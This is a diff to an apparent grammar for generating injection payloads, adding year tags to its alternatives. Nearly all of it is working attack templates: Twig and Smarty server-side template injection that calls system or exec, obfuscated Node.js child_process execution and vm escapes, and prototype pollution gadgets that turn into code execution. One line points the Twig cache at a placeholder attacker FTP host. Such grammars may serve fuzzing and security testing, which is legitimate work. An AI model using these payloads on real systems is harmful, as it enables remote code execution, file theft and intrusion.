@@ -39,11 +39,12 @@ jroot := *2 cycler ¦ joiner ¦ namespace ¦ *2 lipsum ¦ config ¦ request ¦ s
   ¦ session ¦ «word» ¦ "" ¦ [] ¦ () ¦ {} ¦ dict ¦ a
 twig := *2 {{_self.env.registerUndefinedFilterCallback("«=exec~system~passthru~shell_exec»")}}{{_self.env.getFilter("«unix_info»")}}
   ¦ {{_self.env.setCache("ftp://«attacker»:«port»")}}{{_self.env.loadTemplate("«word»")}}
-  ¦ *2 {{['«unix_info»']|filter('«=system~exec~passthru»')}} ¦ *2 {{['«unix_info»']|map('«=system~passthru»')|join}}
-  ¦ {{['«unix_info»',0]|sort('system')}} ¦ {{[0,0]|reduce('system','«unix_info»')}}
-  ¦ {{'«unix_file»'|file_excerpt(1,30)}} ¦ {{app.request.server.all|join(',')}} ¦ {{dump(app)}} ¦ {{_context|keys|join}}
-  ¦ {{['cat«=\x20~${IFS}»«unix_file»']|filter('system')}} ¦ {{_self}}
-  ¦ {% block U %}«unix_info»{% endblock %}{% set x=block('U')|split('|') %}{{[x|first]|map(x|last)|join}}
+  ¦ @2019 *2 {{['«unix_info»']|filter('«=system~exec~passthru»')}}
+  ¦ *2 {{['«unix_info»']|map('«=system~passthru»')|join}} ¦ {{['«unix_info»',0]|sort('system')}}
+  ¦ {{[0,0]|reduce('system','«unix_info»')}} ¦ {{'«unix_file»'|file_excerpt(1,30)}}
+  ¦ {{app.request.server.all|join(',')}} ¦ {{dump(app)}} ¦ {{_context|keys|join}}
+  ¦ @2019 {{['cat«=\x20~${IFS}»«unix_file»']|filter('system')}} ¦ {{_self}}
+  ¦ @2022 {% block U %}«unix_info»{% endblock %}{% set x=block('U')|split('|') %}{{[x|first]|map(x|last)|join}}
   ¦ {{include('«climb3»«app_file»')}} ¦ {{app.request.query.filter(0,0,1024,{'options':'«=system~passthru»'})}}
   ¦ {{ source('«unix_file»') }} ¦ {{ {'«ab»':'«unix_info»'}|find('system') }}
   ¦ {{constant('«coined|cap»::«word|upper»')}}
@@ -52,7 +53,7 @@ smarty := {system('«unix_info»')} ¦ {php}echo `«unix_info»`;{/php}
   ¦ {$smarty.version} ¦ {$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(«unix_bin»)}')}
   ¦ {if system('«unix_info»')}{/if} ¦ {function name='x(){};system(«unix_bin»);function '}{/function}
   ¦ {"«unix_info»"|system} ¦ {fetch file="«unix_file»"} ¦ {self::getStreamVariable("file://«unix_file»")}
-  ¦ {math equation="(\"\\«oct»\")()"} ¦ {include_php file="«unix_file»"} ¦ {$«word»|passthru} ¦ {="`«unix_bin»`"}
+  ¦ @2021 {math equation="(\"\\«oct»\")()"} ¦ {include_php file="«unix_file»"} ¦ {$«word»|passthru} ¦ {="`«unix_bin»`"}
   ¦ {eval var="«rand»"} ¦ {assign var="«ab»" value=`«unix_bin»`}
 node := *2 «node_expr» ¦ *2 «node_break»«node_expr»«node_end» ¦ «node_expr»; ¦ (function(){return «node_expr»})()
   ¦ (()=>{«node_expr»})() ¦ new Function("return «node_expr»")() ¦ eval("«node_expr»")
@@ -62,7 +63,7 @@ node := *2 «node_expr» ¦ *2 «node_break»«node_expr»«node_end» ¦ «node
   ¦ res.end(require('fs').readFileSync('«unix_file»')) ¦ res.send(«node_expr»)
   ¦ setTimeout(function(){«node_expr»},«int») ¦ while(true){} ¦ console.log(«node_expr») ¦ ${«node_expr»}
   ¦ `${«node_expr»}` ¦ import('child_process').then(m=>m.exec('«unix_cmd»'))
-  ¦ err=new Error();err.name={toString:new Proxy(()=>"",{apply(t,a,g){«node_expr»}})}
+  ¦ @2023 err=new Error();err.name={toString:new Proxy(()=>"",{apply(t,a,g){«node_expr»}})}
   ¦ async function «ab»(){await import('fs')} ¦ String.fromCharCode(«node_expr|codes»)
   ¦ Buffer.from('«node_expr|b64»','base64').toString() ¦ eval(Buffer.from("«node_expr|hex»","hex").toString())
   ¦ new (require('vm').Script)('«int»').runInThisContext() ¦ require('vm').runInNewContext("«node_expr»")
@@ -79,9 +80,9 @@ node_expr := *3 require('child_process').«cp_call» ¦ *2 global.process.mainMo
   ¦ global.require('«=fs~os~net~vm~http~cluster»') ¦ arguments.callee.caller
   ¦ module.constructor._load('child_process').«cp_call»
   ¦ process['main'+'Module']['req'+'uire']('child_'+'process').«cp_call» ¦ require('module')._load('child_process')
-  ¦ «int»*«int» ¦ Bun.spawn(["«unix_bin»"]) ¦ Deno.run({cmd:["«unix_bin»"]})
+  ¦ «int»*«int» ¦ @2023 Bun.spawn(["«unix_bin»"]) ¦ @2020 Deno.run({cmd:["«unix_bin»"]})
   ¦ require("v8").setFlagsFromString('--«rand»') ¦ require(`child_process`)[`exec`+`Sync`](`«unix_info»`)
-  ¦ globalThis.process.getBuiltinModule('child_process').«cp_call»
+  ¦ @2024 globalThis.process.getBuiltinModule('child_process').«cp_call»
 cp_call := *3 exec('«unix_cmd»') ¦ *3 execSync('«unix_info»') ¦ spawn('«unix_bin»',['«unix_file»'])
   ¦ spawnSync('«unix_bin»') ¦ execFile('«bin_dir»«unix_bin»') ¦ execFileSync('«unix_bin»',['-la'])
   ¦ fork('/tmp/«rand».js') ¦ exec("«unix_cmd»",function(e,s){res.end(s)}) ¦ execSync("«win_cmd»")
@@ -95,12 +96,12 @@ proto := *2 {"__proto__":{"«proto_key»":«proto_val»}} ¦ *2 __proto__[«prot
   ¦ constructor[prototype][«proto_key»]=«rand» ¦ {"constructor":{"prototype":{"«proto_key»":«proto_val»}}}
   ¦ constructor.prototype.«proto_key» ¦ Object.prototype.«proto_key» = «proto_val»
   ¦ «word»[__proto__][«proto_key»]=«rand» ¦ ["__proto__"].«proto_key» ¦ {"__proto__.«proto_key»":«proto_val»}
-  ¦ __proto__[outputFunctionName]=x;«node_expr»;x
-  ¦ {"__proto__":{"client":1,"escapeFunction":"JSON.stringify; «node_expr»"}}
+  ¦ @2022 __proto__[outputFunctionName]=x;«node_expr»;x
+  ¦ @2022 {"__proto__":{"client":1,"escapeFunction":"JSON.stringify; «node_expr»"}}
   ¦ {"__proto__":{"block":{"type":"Text","line":"«node_expr»"}}}
-  ¦ {"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(«node_expr»)//","NODE_OPTIONS":"--require /proc/self/cmdline"}}
+  ¦ @2022 {"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(«node_expr»)//","NODE_OPTIONS":"--require /proc/self/cmdline"}}
   ¦ a.__defineGetter__('«word»',«ab») ¦ «word».__lookupGetter__('«word»')
-  ¦ {"«word»":{"toString":{"constructor":"«rand»"}}} ¦ settings[view options][outputFunctionName]=x;«node_expr»;s
+  ¦ {"«word»":{"toString":{"constructor":"«rand»"}}} ¦ @2022 settings[view options][outputFunctionName]=x;«node_expr»;s
   ¦ Object.assign({},JSON.parse('{"__proto__":{"«proto_key»":«proto_val»}}')) ¦ __proto__[__proto__][«word»]
   ¦ Reflect.setPrototypeOf(«ab»,null)
 proto_key := isAdmin ¦ admin ¦ polluted ¦ «rand» ¦ toString ¦ status ¦ env ¦ shell ¦ NODE_OPTIONS ¦ role
